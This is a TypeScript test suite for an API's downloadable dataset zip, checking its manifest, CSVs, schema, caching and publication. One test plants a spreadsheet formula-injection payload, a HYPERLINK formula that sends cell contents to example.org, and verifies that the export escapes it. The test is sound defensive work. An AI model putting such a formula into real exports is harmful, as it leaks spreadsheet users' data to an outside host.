import { createHash } from "node:crypto";
import pino from "pino";
import supertest, { type Response } from "supertest";
import { makeApp, openPorts } from "../../src/compose";
import { readConfig } from "../../src/config";
import { DOCUMENT_FACES } from "../../src/faces/documents/all-document-faces";
import { unguardFormula } from "../../src/formats/formula-guard";
import { PUBLIC_DEFINITIONS } from "../../src/use-cases/documents/public-documents";
import { bytesOf } from "../support/bytes-of";
import { faultsOfPackage, type Resource } from "../support/check-data-package";
import { ENDED_QUARTER } from "../support/constants";
import { csvRows } from "../support/csv-rows";
import { ENGINES, makeDatabase } from "../support/databases";
import { readZip } from "../support/read-zip";
import { stepsOf } from "../support/report-steps";
import { sampleReport } from "../support/sample-report";
import { makeTestApp, type TestApp } from "../support/test-app";

const ADDRESS = "/v1/dataset.zip";

const sha256 = (content: Buffer | string) => createHash("sha256").update(content).digest("hex");

async function download(
  app: Pick<TestApp, "http">,
  headers: Readonly<Record<string, string>> = {},
): Promise<Response> {
  return app.http.get(ADDRESS).set(headers).buffer(true).parse(bytesOf);
}

/** The zip's bytes by engine, of the same data. */
const zipByEngine = new Map<string, Buffer>();

describe.each(ENGINES)("the whole dataset as one file on %s", (engine) => {
  let app: TestApp;
  let answer: Response;
  let files: Map<string, string>;
  beforeAll(async () => {
    app = await makeTestApp(engine);
    answer = await download(app);
    zipByEngine.set(engine, answer.body);
    files = await readZip(answer.body);
  });
  afterAll(() => app.close());
  const rowsOf = (file: string) => csvRows(files.get(file) ?? "");
  const listed = async (path: string) => (await app.http.get(path)).text;

  it("is a file to save, with its size and a tag", () => {
    expect(answer.status).toBe(200);
    expect(answer.headers).toMatchObject({
      "content-type": "application/zip",
      "content-disposition": 'attachment; filename="cx-dataset-r1.zip"',
      "content-length": String(answer.body.length),
      etag: expect.stringMatching(/^"d1-[0-9a-f]{16}"$/),
    });
  });

  it("names the sum of every other file in it, as sha256sum -c reads it", () => {
    const lines = (files.get("manifest-sha256.txt") ?? "").trimEnd().split("\n");
    const others = [...files].filter(([name]) => name !== "manifest-sha256.txt");
    expect(lines).toEqual(others.map(([name, text]) => `${sha256(text)}  ${name}`));
    expect(others.length).toBeGreaterThan(15);
  });

  it.each([
    ["results.csv", "/v1/results?format=csv", 2_592],
    ["hisps.csv", "/v1/hisps?format=csv", 38],
    ["services.csv", "/v1/services?format=csv", 64],
    ["withheld.csv", "/v1/withheld?format=csv", 28],
    ["changes.csv", "/v1/changes?format=csv", 1],
  ])("has in %s what %s has", async (file, path, rows) => {
    expect(files.get(file)).toBe(await listed(path));
    expect(rowsOf(file)).toHaveLength(rows);
  });

  it("has every public document, and none of a kind that is not public", () => {
    const ours = DOCUMENT_FACES.filter(({ definition }) => definition.isPublic);
    expect(PUBLIC_DEFINITIONS.map(({ kind }) => kind).sort()).toEqual(
      ours.map(({ definition }) => definition.kind).sort(),
    );
    const rows = rowsOf("documents.csv");
    expect(rows.map((row) => row["path"])).toContain("/v1/life-experiences/recovering-from-a-disaster");
    expect(rows.map((row) => row["kind"])).toEqual([
      ...Array.from({ length: 5 }, () => "LIFE_EXPERIENCE"),
      "MATURITY_SCALE",
    ]);
    expect(JSON.parse(rows[0]?.["content"] ?? "")).toMatchObject({ name: "Approaching retirement" });
  });

  it("has every report, collection, finding and public revision the API has", async () => {
    const { data } = JSON.parse(await listed("/v1/reports?limit=1000&sort=service"));
    const countOf = (list: string) =>
      data.reduce((sum: number, report: Record<string, object[]>) => sum + (report[list]?.length ?? 0), 0);
    expect(rowsOf("reports.csv").map((row) => [row["id"], row["dueDate"], row["revision"]])).toEqual(
      data.map((report: Record<string, unknown>) => [
        report["id"],
        report["dueDate"],
        String(report["revision"]),
      ]),
    );
    expect(rowsOf("collections.csv")).toHaveLength(countOf("collections"));
    expect(rowsOf("findings.csv")).toHaveLength(countOf("findings"));
    // VHA's FY2020-Q1 was published twice: the one restatement there is.
    expect(rowsOf("revisions.csv")).toHaveLength(data.length + 1);
    const { body } = await app.http.get("/v1/services/va-vha/reports/FY2020-Q1/revisions/1");
    const shown = body.collections.flatMap(
      ({ name, measures }: { name: string; measures: { measure: string; mean: number }[] }) =>
        measures.map(({ measure, mean }) => [name, measure, String(mean)]),
    );
    expect(
      rowsOf("superseded-results.csv").map((row) => [row["collection"], row["measure"], row["mean"]]),
    ).toEqual(shown);
    expect(shown.length).toBeGreaterThan(0);
  });

  it("has the deadlines of the years it is about, with both dates where they differ", async () => {
    const rows = rowsOf("deadlines.csv");
    const years = [2019, 2020, 2021, 2022, 2023];
    const { data } = JSON.parse(await listed("/v1/deadlines?fiscalYear=2022"));
    expect(rows).toHaveLength(8 * years.length);
    expect([...new Set(rows.map((row) => Number(row["fiscalYear"])))]).toEqual(years);
    expect(rows.filter((row) => row["fiscalYear"] === "2022").map((row) => row["dueAt"])).toEqual(
      data.map((deadline: { dueAt: string }) => deadline.dueAt),
    );
    // The circular's own list of FY 2022 and its rule differ for Q1 and Q4.
    expect(rows.filter((row) => row["discrepancy"] === "true").map((row) => row["quarter"])).toEqual([
      "FY2022-Q1",
      "FY2022-Q4",
    ]);
  });

  it("says where each figure of history is from, and where its own are", () => {
    for (const row of rowsOf("reports.csv"))
      expect(JSON.parse(row["provenance"] ?? "")).toMatchObject({
        source: expect.stringMatching(/performance\.gov/),
      });
    expect(files.get("PROVENANCE.md")).toMatch(/Revision 1 of the dataset.*FY2019-Q1 to FY2023-Q1/);
    expect(files.get("PROVENANCE.md")).toContain("performance.gov/cx/data");
    expect(files.get("LICENSE.txt")).toMatch(/CC0 1\.0 Universal/);
    for (const name of files.keys())
      expect(files.get("README.txt")).toMatch(name === "README.txt" ? /Files/ : name);
  });

  it("fits the data package that describes it: types, codes, keys and references", () => {
    const { resources } = JSON.parse(files.get("datapackage.json") ?? "") as { resources: Resource[] };
    const csv = [...files.keys()].filter((name) => name.endsWith(".csv"));
    expect(resources.map(({ path }) => path)).toEqual(csv);
    expect(faultsOfPackage(resources, files)).toEqual([]);
    // The check can find something: one figure, one code, one reference and one key made wrong.
    const spoilt = new Map(files)
      .set("services.csv", (files.get("services.csv") ?? "").replace("dos-ca,dos-ca", "dos-cb,dos-cb"))
      .set("codes.csv", `${files.get("codes.csv")}Measure,TRUST,Twice\n`)
      .set("results.csv", (files.get("results.csv") ?? "").replace(",LIKERT_5,141,", ",LIKERT_6,1.5,"));
    const found = faultsOfPackage(resources, spoilt).join("\n");
    for (const fault of [
      /"LIKERT_6" is none of/,
      /"1\.5" is no integer/,
      /dos-cb.*not in hisps/,
      /there twice/,
    ])
      expect(found).toMatch(fault);
  });

  it("describes every column of every file, and every code they use", () => {
    const described = new Set(rowsOf("dictionary.csv").map((row) => `${row["file"]} ${row["column"]}`));
    const codes = new Set(rowsOf("codes.csv").map((row) => row["codes"]));
    for (const [name, text] of files) {
      if (!name.endsWith(".csv")) continue;
      for (const column of (text.split("\n")[0] ?? "").split(",")) {
        expect(described).toContain(`${name} ${column}`);
        expect(files.get("DICTIONARY.md")).toContain(`| \`${column}\` |`);
      }
    }
    for (const row of rowsOf("dictionary.csv")) {
      expect(row["description"]).toMatch(/\w/);
      if (row["codes"] !== "") expect(codes).toContain(row["codes"]);
    }
  });

  it("has figures that recompute from their counts", () => {
    let recomputed = 0;
    for (const row of rowsOf("results.csv")) {
      if (row["n1"] === "" || row["scale"] !== "LIKERT_5") continue;
      const counts = ["n1", "n2", "n3", "n4", "n5"].map((name) => BigInt(row[name] ?? ""));
      const n = counts.reduce((sum, one) => sum + one, 0n);
      const points = counts.reduce((sum, one, index) => sum + one * BigInt(index + 1), 0n);
      // Half up to two decimals, in whole numbers.
      const hundredths = (points * 200n + n) / (2n * n);
      expect([row["collection"], Math.round(Number(row["mean"]) * 100), Number(row["answers"])]).toEqual([
        row["collection"],
        Number(hundredths),
        Number(n),
      ]);
      recomputed += 1;
    }
    expect(recomputed).toBeGreaterThan(2_500);
  });

  it("answers HEAD with the same headers and no bytes, and 304 to who has it", async () => {
    const head = await app.http.head(ADDRESS);
    expect([head.status, head.text]).toEqual([200, undefined]);
    for (const name of ["etag", "content-length", "content-type", "content-disposition"])
      expect([name, head.headers[name]]).toEqual([name, answer.headers[name]]);
    const known = await app.http.get(ADDRESS).set("If-None-Match", answer.headers["etag"] ?? "");
    expect([known.status, known.text]).toEqual([304, ""]);
    expect((await app.http.get(`${ADDRESS}?hisp=treas-irs`)).body).toMatchObject({
      code: "INVALID_PARAMETER",
    });
  });

  it("gives the same bytes again, and to a key no more than to the public", async () => {
    expect(sha256((await download(app)).body)).toBe(sha256(answer.body));
    const other = await makeTestApp(engine, { clock: () => new Date("2027-03-03T12:00:00Z") });
    const later = await download(other, { "X-Api-Key": await other.key("review") });
    await other.close();
    expect(sha256(later.body)).toBe(sha256(answer.body));
  });

  it("holds nothing that is not published, and all of it once it is, with formulas made harmless", async () => {
    const keys = { submitter: await app.key("submit:dos-ca"), reviewer: await app.key("review") };
    const report = sampleReport();
    const formula = '=HYPERLINK("http://example.org/?"&A1)';
    report.collections[0].name = formula;
    report.accomplishments = ["@SUM(A1)", "'=1", "Online renewal, opened to all\nin March."];
    const steps = stepsOf(app, "dos-ca", ENDED_QUARTER, keys.submitter);
    expect((await steps.save(report)).status).toBe(201);
    expect((await steps.step("submit")).status).toBe(200);
    const before = await download(app, { "X-Api-Key": keys.reviewer });
    expect([before.headers["etag"], sha256(before.body)]).toEqual([
      answer.headers["etag"],
      sha256(answer.body),
    ]);
    await stepsOf(app, "dos-ca", ENDED_QUARTER, keys.reviewer).step("publish");
    const after = await download(app);
    expect(after.headers["etag"]).toMatch(/^"d2-/);
    expect(after.headers["content-disposition"]).toContain("cx-dataset-r2.zip");
    const now = await readZip(after.body);
    const added = csvRows(now.get("results.csv") ?? "").filter((row) => row["quarter"] === ENDED_QUARTER);
    expect(added).toHaveLength(4);
    expect(now.get("results.csv")).toBe(await listed("/v1/results?format=csv"));
    for (const row of added) {
      expect(row["collection"]).toBe(`'${formula}`);
      expect(unguardFormula(row["collection"] ?? "")).toBe(formula);
    }
    const accomplishments = csvRows(now.get("accomplishments.csv") ?? "").map((row) => row["accomplishment"]);
    expect(accomplishments).toEqual(["'@SUM(A1)", "''=1", "Online renewal, opened to all\nin March."]);
    expect(accomplishments.map((text) => unguardFormula(text ?? ""))).toEqual(report.accomplishments);
    expect(csvRows(now.get("indicators.csv") ?? "")).toMatchObject([
      { value: "6.5", target: "6", unit: "weeks" },
    ]);
    const { resources } = JSON.parse(now.get("datapackage.json") ?? "") as { resources: Resource[] };
    expect(faultsOfPackage(resources, now)).toEqual([]);
    expect(now.get("README.txt")).toContain(`to ${ENDED_QUARTER}`);
  });
});

it("is the same, byte for byte, from either engine", () => {
  const [sqlite, postgres] = ENGINES.map((engine) => sha256(zipByEngine.get(engine) ?? engine));
  expect(sqlite).toBe(postgres);
});

describe.each(ENGINES)("the whole dataset of a database on %s without figures", (engine) => {
  it("says that there is none, in files that are right", async () => {
    const database = await makeDatabase(engine, "nothing");
    const config = readConfig({ DATABASE_URL: database.url });
    const { store, ports } = await openPorts(config, { seeded: false });
    const app = await makeApp(config, ports, pino({ level: "silent" }));
    await app.ready();
    const answer = await download({ http: supertest(app.server) });
    const files = await readZip(answer.body);
    const { resources } = JSON.parse(files.get("datapackage.json") ?? "") as { resources: Resource[] };
    expect(faultsOfPackage(resources, files)).toEqual([]);
    expect(files.get("README.txt")).toContain("No report is published yet.");
    expect(files.get("results.csv")?.split("\n")).toHaveLength(2);
    await app.close();
    await store.close();
    await database.drop();
  });
});
